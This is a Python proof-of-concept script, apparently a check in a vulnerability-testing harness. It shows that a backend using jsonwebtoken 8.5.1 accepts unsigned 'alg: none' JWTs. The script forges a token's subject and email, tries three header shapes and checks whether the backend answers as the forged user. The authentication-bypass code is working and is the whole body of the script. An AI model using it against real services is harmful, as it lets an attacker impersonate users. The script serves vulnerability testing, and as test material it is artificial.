"""Proof for express-jsonwebtoken8-none: unsigned `alg: none` tokens accepted.

jsonwebtoken 8.5.1's verify, called without an `algorithms` option, allows "none" for a token with
an empty signature when the key callback yields no key (CVE-2022-23540 / GHSA-qwph-4952-7xr6); the
backend's jwks-rsa getKey yields none for a kid the JWKS does not have. The proof copies the claims
of a real JWT (forged sub) into unsigned tokens `<header>.<claims>.` with the header shapes
{"alg":"none","kid":<unknown>}, {"alg":"none"} and {"alg":"none","kid":<the issuer's kid>}, and
reports the flaw when any of them is answered 2xx with the forged sub (must_report: alg-none).
"""

import secrets

import zoolib


def prove(backend: str, issuer: str) -> bool:
    real = zoolib.session_jwt(issuer)
    real_header, claims = zoolib.decode_unverified(real)
    forged_sub = "forged-" + claims["sub"]
    forged = dict(claims, sub=forged_sub, email="attacker@example.com")
    shapes = [
        ("unknown kid", {"alg": "none", "kid": "unknown-" + secrets.token_hex(8)}),
        ("no kid", {"alg": "none"}),
    ]
    if "kid" in real_header:
        shapes.append(("the issuer's kid", {"alg": "none", "kid": real_header["kid"]}))
    present = False
    for label, header in shapes:
        token = zoolib.sign(header, forged, {}, "none")
        print(f"sent: unsigned token, header {header}, sub {forged_sub!r}")
        status, _, body = zoolib.me(backend, token)
        zoolib.show(f"alg none / {label}", status, body)
        present = present or (200 <= status < 300 and forged_sub.encode() in body)
    return present


if __name__ == "__main__":
    zoolib.main(prove)
